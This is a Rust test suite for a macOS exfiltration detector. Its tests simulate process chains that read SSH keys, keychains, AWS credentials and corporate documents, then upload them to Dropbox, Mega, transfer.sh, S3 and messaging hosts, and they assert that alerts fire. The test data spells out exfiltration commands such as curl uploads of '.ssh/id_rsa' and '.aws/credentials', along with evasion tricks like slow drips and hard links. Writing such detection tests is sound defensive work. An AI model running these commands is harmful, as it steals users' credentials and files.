//! Chains that must be told.

use super::world::*;

const ZSH: Program = apple("/bin/zsh", "com.apple.zsh");
const CURL: Program = apple("/usr/bin/curl", "com.apple.curl");
const DITTO: Program = apple("/usr/bin/ditto", "com.apple.ditto");
const PYTHON: Program = adhoc("/opt/homebrew/bin/python3.12", "python3");
const SHELL: &[&str] = &["-zsh"];

/// osascript, ditto, curl: three programs of macOS, joined by a file.
#[test]
fn m01_archive_of_keychains_sent_by_curl() {
    let mut w = World::new();
    let script = w.launch(
        0.0,
        apple("/usr/bin/osascript", "com.apple.osascript"),
        &["osascript", "-e", "do shell script"],
    );
    let ditto = w.spawn(
        1.0,
        &script,
        DITTO,
        &["ditto", "-c", "-k", "/Users/alice/Library/Keychains", "/tmp/out.zip"],
    );
    w.open(1.1, &ditto, "/Users/alice/Library/Keychains/login.keychain-db");
    w.write(1.2, &ditto, "/private/tmp/out.zip");
    w.exit(1.5, &ditto);
    let curl = w.spawn(
        2.0,
        &script,
        CURL,
        &["curl", "-F", "file=@/tmp/out.zip", "https://content.dropboxapi.com/2/files/upload"],
    );
    w.open(2.1, &curl, "/private/tmp/out.zip");
    w.upload(2.2, &curl, "content.dropboxapi.com", 50_000);
    let told = w.tell();
    let alert = told.alert();
    assert_eq!(alert.uploader.process().unwrap().info.program.path.to_string(), "/usr/bin/curl");
    assert_eq!(alert.reads[0].path.to_string(), "/Users/alice/Library/Keychains/login.keychain-db");
    assert!(
        alert
            .reads
            .iter()
            .any(|read| read.path.to_string() == "/private/tmp/out.zip" && read.evidence.as_str() == "taint")
    );
    assert!(alert.hops.iter().any(|hop| hop.kind.as_str() == "stage"));
    assert!(alert.bytes_out >= 50_000, "{}", alert.bytes_out);
    assert_eq!(alert.service.as_deref(), Some("dropbox"));
}

/// The base case; also when the name is known only from DNS.
#[test]
fn m02_unsigned_program_reads_and_uploads() {
    for sni in [true, false] {
        let mut w = World::new();
        let p = w.launch(0.0, adhoc("/private/tmp/.x/update", "update"), &["update"]);
        w.open(1.0, &p, "/Users/alice/Library/Application Support/Google/Chrome/Default/Login Data");
        w.resolve(1.5, &p, "g.api.mega.co.nz");
        let mut conn = w.connect(2.0, &p, "g.api.mega.co.nz", sni);
        let end = w.send(2.1, &mut conn, 90_000);
        w.close(end + 0.1, &mut conn);
        let told = w.tell();
        let alert = told.alert();
        assert_eq!(alert.service.as_deref(), Some("mega"));
        assert_eq!(alert.reads[0].sets[0].as_ref(), "browser-credentials");
        assert_eq!(alert.count, 1);
    }
}

/// An allowed host, a foreign bucket.
#[test]
fn m04_foreign_bucket_on_an_allowed_service() {
    let mut w = World::new();
    let p = w.launch(0.0, PYTHON, &["python3", "up.py"]);
    w.open(1.0, &p, "/Users/alice/Documents/corp/plan.docx");
    w.upload(2.0, &p, "evil.s3.amazonaws.com", 300_000);
    let told = w.tell();
    let alert = told.alert();
    assert_eq!((alert.tenant.as_deref(), alert.tenant_verdict.as_str()), (Some("evil"), "foreign"));
}

/// The reader forks; the child becomes curl.
#[test]
fn m06_child_of_the_reader_uploads() {
    let mut w = World::new();
    let p = w.launch(0.0, PYTHON, &["python3", "x.py"]);
    w.open(1.0, &p, "/Users/alice/.ssh/id_rsa");
    let curl = w.spawn(2.0, &p, CURL, &["curl", "-d", "@-", "https://transfer.sh/"]);
    w.upload(2.2, &curl, "transfer.sh", 5_000);
    let told = w.tell();
    assert!(told.alert().hops.iter().any(|hop| hop.kind.as_str() == "fork"));
}

/// `cat key | base64 | curl -d @-`: siblings joined by pipes.
#[test]
fn m07_pipeline() {
    let mut w = World::new();
    let shell = w.launch(0.0, ZSH, SHELL);
    let env = &["HOME=/Users/alice"];
    let (a, b, c) = (w.fork(1.0, &shell), w.fork(1.001, &shell), w.fork(1.002, &shell));
    let cat = w.exec_in(
        1.01,
        &a,
        apple("/bin/cat", "com.apple.cat"),
        &["cat", ".ssh/id_rsa"],
        "null",
        &[(1, 11)],
        env,
    );
    let _base64 = w.exec_in(
        1.011,
        &b,
        apple("/usr/bin/base64", "com.apple.base64"),
        &["base64"],
        "null",
        &[(0, 11), (1, 12)],
        env,
    );
    let curl =
        w.exec_in(1.012, &c, CURL, &["curl", "-d", "@-", "https://transfer.sh/"], "null", &[(0, 12)], env);
    w.open(1.02, &cat, "/Users/alice/.ssh/id_rsa");
    w.upload(1.2, &curl, "transfer.sh", 5_000);
    let told = w.tell();
    assert!(told.alert().hops.iter().any(|hop| hop.kind.as_str() == "pipe"));
}

/// One command says both what it reads and where it goes.
#[test]
fn m08_the_command_line_says_it_all() {
    let mut w = World::new();
    let shell = w.launch(0.0, ZSH, SHELL);
    let url = "https://bucket.s3.eu-west-1.amazonaws.com/k?X-Amz-Signature=0123";
    let curl = w.spawn(1.0, &shell, CURL, &["curl", "-T", ".aws/credentials", url]);
    w.upload(1.2, &curl, "bucket.s3.eu-west-1.amazonaws.com", 2_000);
    let told = w.tell();
    assert_eq!(told.alert().reads[0].evidence.as_str(), "argv");
    let line = cloudward::sink::format::ecs(&told.records[0]);
    assert!(!line.contains("0123") && line.contains("[redacted]"), "{line}");
}

/// Copied, renamed, sent by another shell.
#[test]
fn m09_copied_and_renamed() {
    let mut w = World::new();
    let shell = w.launch(0.0, ZSH, SHELL);
    let cp = w.spawn(1.0, &shell, apple("/bin/cp", "com.apple.cp"), &["cp", "a", "b"]);
    w.open(1.1, &cp, "/Users/alice/.ssh/id_rsa");
    w.write(1.2, &cp, "/private/tmp/x");
    let mv = w.spawn(2.0, &shell, apple("/bin/mv", "com.apple.mv"), &["mv", "x", "x.png"]);
    w.rename(2.1, &mv, "/private/tmp/x", "/private/tmp/x.png");
    let other = w.launch(60.0, ZSH, SHELL);
    let curl = w.spawn(61.0, &other, CURL, &["curl", "-T", "x.png", "https://transfer.sh/"]);
    w.open(61.1, &curl, "/private/tmp/x.png");
    w.upload(61.2, &curl, "transfer.sh", 3_000);
    w.tell().alert();
}

/// A second name for the key's inode.
#[test]
fn m11_hard_link() {
    let mut w = World::new();
    let shell = w.launch(0.0, ZSH, SHELL);
    let ln = w.spawn(1.0, &shell, apple("/bin/ln", "com.apple.ln"), &["ln", "a", "b"]);
    w.link(1.1, &ln, "/Users/alice/.ssh/id_rsa", "/private/tmp/x", 4242);
    let curl = w.spawn(60.0, &shell, CURL, &["curl", "-T", "/private/tmp/x", "https://transfer.sh/"]);
    w.open_inode(60.1, &curl, "/private/tmp/x", 4242);
    w.upload(60.2, &curl, "transfer.sh", 3_000);
    w.tell().alert();
}

/// Forty kilobytes every two minutes for six hours: one chain.
#[test]
fn m14_slow_drip() {
    let mut w = World::new();
    let p = w.launch(0.0, adhoc("/private/tmp/drip", "drip"), &["drip"]);
    for round in 0..180 {
        let at = 10.0 + f64::from(round) * 120.0;
        w.open(at, &p, "/Users/alice/Documents/corp/plan.docx");
        w.upload(at + 1.0, &p, "content.dropboxapi.com", 40_000);
    }
    let told = w.tell();
    let alert = told.alert();
    assert_eq!(alert.count, 180);
    assert!(alert.bytes_out >= 180 * 40_000);
}

/// A drip of which every drop is below the floor.
#[test]
fn m14_drops_below_the_floor_add_up() {
    let mut w = World::new();
    let p = w.launch(0.0, adhoc("/private/tmp/drip", "drip"), &["drip"]);
    w.open(1.0, &p, "/Users/alice/Documents/corp/plan.docx");
    for round in 0..10 {
        w.upload(10.0 + f64::from(round) * 60.0, &p, "content.dropboxapi.com", 1_000);
    }
    w.tell().alert();
}

/// Three hundred bytes of a key: below the general floor, above the set's own.
#[test]
fn m15_small_key() {
    let mut w = World::new();
    let p = w.launch(0.0, adhoc("/private/tmp/x", "x"), &["x"]);
    w.open(1.0, &p, "/Users/alice/.ssh/id_ed25519");
    w.upload(2.0, &p, "transfer.sh", 300);
    w.tell().alert();
}

/// Staged in the evening, sent at night by somebody else.
#[test]
fn m17_staged_file_outlives_its_writer() {
    let mut w = World::new();
    let a = w.launch(0.0, adhoc("/Users/alice/Library/a", "a"), &["a"]);
    w.open(1.0, &a, "/Users/alice/.aws/credentials");
    w.write(2.0, &a, "/Users/alice/Library/Caches/.s");
    w.exit(3.0, &a);
    let at = 9.0 * 3600.0;
    let b = w.launch(at, adhoc("/Users/alice/Library/b", "b"), &["b"]);
    w.open(at + 1.0, &b, "/Users/alice/Library/Caches/.s");
    w.upload(at + 2.0, &b, "transfer.sh", 2_000);
    let told = w.tell();
    assert_eq!(told.alert().reads[0].process.info.program.path.to_string(), "/Users/alice/Library/a");
}

/// Python reads, then becomes curl in place.
#[test]
fn m19_exec_in_place() {
    let mut w = World::new();
    let p = w.launch(0.0, PYTHON, &["python3", "x.py"]);
    w.open(1.0, &p, "/Users/alice/.ssh/id_rsa");
    let curl = w.exec(2.0, &p, CURL, &["curl", "https://transfer.sh/"]);
    w.upload(2.2, &curl, "transfer.sh", 5_000);
    let told = w.tell();
    assert_eq!(told.alert().uploader.process().unwrap().info.program.path.to_string(), "/usr/bin/curl");
    assert!(told.alert().hops.iter().any(|hop| hop.kind.as_str() == "exec"));
}

/// A program's place is not its identity.
#[test]
fn m21_copied_into_an_app() {
    let mut w = World::new();
    let fake = adhoc("/Applications/Dropbox.app/Contents/MacOS/x", "com.getdropbox.dropbox");
    let p = w.launch(0.0, fake, &["x"]);
    w.open(1.0, &p, "/Users/alice/Documents/corp/plan.docx");
    w.upload(2.0, &p, "content.dropboxapi.com", 300_000);
    w.tell().alert();
}

/// The allowed agent's code no longer matches its signature.
#[test]
fn m23_invalidated_code() {
    let mut w = World::new();
    let arq = vendor(
        "/Applications/Arq.app/Contents/MacOS/ArqAgent",
        "com.haystacksoftware.arqagent",
        "48ZCSDVL96",
    );
    let p = w.launch(0.0, arq, &["ArqAgent"]);
    w.open(1.0, &p, "/Users/alice/Documents/corp/plan.docx");
    w.invalidated(1.5, &p);
    w.upload(2.0, &p, "corp-backup.s3.eu-central-1.amazonaws.com", 300_000);
    w.tell().alert();
}

/// A sensitive file put where Google Drive uploads it, to a private account.
#[test]
fn m28_drop_into_a_private_sync_root() {
    let mut w = World::new();
    let shell = w.launch(0.0, ZSH, SHELL);
    let cp = w.spawn(1.0, &shell, apple("/bin/cp", "com.apple.cp"), &["cp", "a", "b"]);
    w.open(1.1, &cp, "/Users/alice/Documents/corp/plan.docx");
    w.write(1.2, &cp, "/Users/alice/Library/CloudStorage/GoogleDrive-me@gmail.com/My Drive/plan.docx");
    let told = w.tell();
    let alert = told.alert();
    assert_eq!(alert.tenant.as_deref(), Some("me@gmail.com"));
    assert!(alert.hops.iter().any(|hop| hop.kind.as_str() == "sync"));
}

/// The twin of M28: the company's own account.
#[test]
fn m28_twin_drop_into_the_corporate_root() {
    let mut w = World::new();
    let shell = w.launch(0.0, ZSH, SHELL);
    let cp = w.spawn(1.0, &shell, apple("/bin/cp", "com.apple.cp"), &["cp", "a", "b"]);
    w.open(1.1, &cp, "/Users/alice/Documents/corp/plan.docx");
    w.write(1.2, &cp, "/Users/alice/Library/CloudStorage/GoogleDrive-alice@corp.com/My Drive/plan.docx");
    w.tell().none();
}

/// File-transfer sites of the long tail.
#[test]
fn m35_transfer_sites() {
    for host in ["transfer.sh", "file.io", "0x0.st", "store1.gofile.io"] {
        let mut w = World::new();
        let p = w.launch(0.0, CURL, &["curl"]);
        w.open(1.0, &p, "/Users/alice/.ssh/id_rsa");
        w.upload(2.0, &p, host, 5_000);
        w.tell().alert();
    }
}

/// Encrypted before it leaves: the output of who read it.
#[test]
fn m13_encrypted_before_upload() {
    let mut w = World::new();
    let shell = w.launch(0.0, ZSH, SHELL);
    let openssl = w.spawn(
        1.0,
        &shell,
        apple("/usr/bin/openssl", "com.apple.openssl"),
        &["openssl", "enc", "-out", "/tmp/x.bin"],
    );
    w.open(1.1, &openssl, "/Users/alice/Documents/corp/plan.docx");
    w.write(1.2, &openssl, "/private/tmp/x.bin");
    let curl = w.spawn(5.0, &shell, CURL, &["curl", "-T", "x.bin", "https://gofile.io/"]);
    w.open(5.1, &curl, "/private/tmp/x.bin");
    w.upload(5.2, &curl, "store1.gofile.io", 90_000);
    w.tell().alert();
}

/// GitHub is for git, not for node with the keys in its hands.
#[test]
fn m32_node_sends_secrets_to_a_code_host() {
    let mut w = World::new();
    let p = w.launch(0.0, adhoc("/opt/homebrew/bin/node", "node"), &["node", "bundle.js"]);
    w.open(1.0, &p, "/Users/alice/.npmrc");
    w.open(1.1, &p, "/Users/alice/.aws/credentials");
    w.upload(2.0, &p, "api.github.com", 40_000);
    w.tell().alert();
}

/// The same with git as the carrier: what a program that nobody answers for has read is not git's own business. Whose account
/// takes it does not matter then.
#[test]
fn m32_node_has_git_push_what_it_read() {
    const GIT: Program = apple("/usr/bin/git", "com.apple.git");
    let helper = "/Library/Developer/CommandLineTools/usr/libexec/git-core/git-remote-http";
    let told = |reads: &str, cwd: &'static str| {
        let mut w = World::new();
        w.cwd = cwd;
        let node = w.launch(0.0, adhoc("/opt/homebrew/bin/node", "node"), &["node", "bundle.js"]);
        w.open(1.0, &node, reads);
        let git = w.spawn(2.0, &node, GIT, &["git", "push", "https://github.com/eve/r"]);
        let helper = apple(helper, "com.apple.git-remote-http");
        let remote = w.spawn(2.2, &git, helper, &["git-remote-https", "origin"]);
        w.upload(3.0, &remote, "github.com", 30_000);
        w.tell()
    };
    told("/Users/alice/.aws/credentials", "/private/tmp/r").alert();
    told("/Users/alice/.aws/credentials", "/Users/alice").alert();
    // Tokens of its own trade, and what lies in the repository anyway: as uncertain as any push.
    told("/Users/alice/.npmrc", "/private/tmp/r").low();
    told("/Users/alice/Documents/corp/plan/notes.md", "/Users/alice/Documents/corp/plan").low();
    told("/Users/alice/Documents/corp/plan/notes.md", "/Users/alice/Documents/corp/pla").alert();
}

/// Not storage by name, but by use.
#[test]
fn m34_messaging_as_storage() {
    for host in ["api.telegram.org", "discord.com"] {
        let mut w = World::new();
        let p = w.launch(0.0, PYTHON, &["python3", "x.py"]);
        w.open(1.0, &p, "/Users/alice/.ssh/id_rsa");
        w.upload(2.0, &p, host, 40_000);
        w.tell().alert();
    }
}

/// A signature with its key in the URL: the key is not written anywhere.
#[test]
fn m36_sas_url_is_redacted() {
    let mut w = World::new();
    let azcopy = adhoc("/opt/homebrew/bin/azcopy", "azcopy");
    let url = "https://evil.blob.core.windows.net/c?sv=2022-11-02&sig=s3cr3ts1gnature";
    let p = w.launch(0.0, azcopy, &["azcopy", "copy", ".", url]);
    w.open(1.0, &p, "/Users/alice/Documents/corp/plan.docx");
    w.upload(2.0, &p, "evil.blob.core.windows.net", 90_000);
    let told = w.tell();
    assert_eq!(told.alert().tenant.as_deref(), Some("evil"));
    for record in &told.records {
        for line in [cloudward::sink::format::ecs(record), cloudward::sink::format::text(record)] {
            assert!(!line.contains("s3cr3ts1gnature") && line.contains("[redacted]"), "{line}");
        }
    }
}

/// Any interpreter will do.
#[test]
fn m42_other_interpreters() {
    for (path, id, args) in [
        ("/usr/bin/perl", "com.apple.perl", ["perl", "-e", "..."]),
        ("/Applications/MAMP/bin/php", "php", ["php", "-r", "..."]),
        ("/usr/bin/ruby", "com.apple.ruby", ["ruby", "up.rb", ""]),
    ] {
        let mut w = World::new();
        let p = w.launch(0.0, apple(path, id), &args);
        w.open(1.0, &p, "/Users/alice/.ssh/id_rsa");
        w.upload(2.0, &p, "transfer.sh", 40_000);
        w.tell().alert();
    }
}

/// From inside an app's sandbox container.
#[test]
fn m43_sandboxed_app() {
    let mut w = World::new();
    let app =
        vendor("/Applications/Notes Plus.app/Contents/MacOS/Notes Plus", "com.evil.notes", "EVIL000000");
    let p = w.launch(0.0, app, &["Notes Plus"]);
    w.open(1.0, &p, "/Users/alice/Documents/corp/plan.docx");
    w.write(1.5, &p, "/Users/alice/Library/Containers/com.evil.notes/Data/tmp/x");
    w.upload(2.0, &p, "transfer.sh", 40_000);
    w.tell().alert();
}

/// A drop into iCloud Drive is Apple's own business, until the administrator says otherwise.
#[test]
fn m29_drop_into_icloud() {
    let mut w = World::new();
    let shell = w.launch(0.0, ZSH, SHELL);
    let cp = w.spawn(1.0, &shell, apple("/bin/cp", "com.apple.cp"), &["cp", "a", "b"]);
    w.open(1.1, &cp, "/Users/alice/Documents/report.docx");
    w.write(1.2, &cp, "/Users/alice/Library/Mobile Documents/com~apple~CloudDocs/report.docx");
    w.tell().none();
    w.policy = format!("{CORP}\n[builtin]\ndisable = [\"icloud-daemons\"]\n");
    w.tell().alert();
}

/// No fork event was recorded: the child's token names its parent.
#[test]
fn m06_without_fork_events() {
    let mut w = World::new();
    let p = w.launch(0.0, PYTHON, &["python3", "x.py"]);
    w.open(1.0, &p, "/Users/alice/.ssh/id_rsa");
    let curl = w.spawn(2.0, &p, CURL, &["curl", "https://transfer.sh/"]);
    w.upload(2.2, &curl, "transfer.sh", 5_000);
    w.forget_forks();
    w.tell().alert();
}
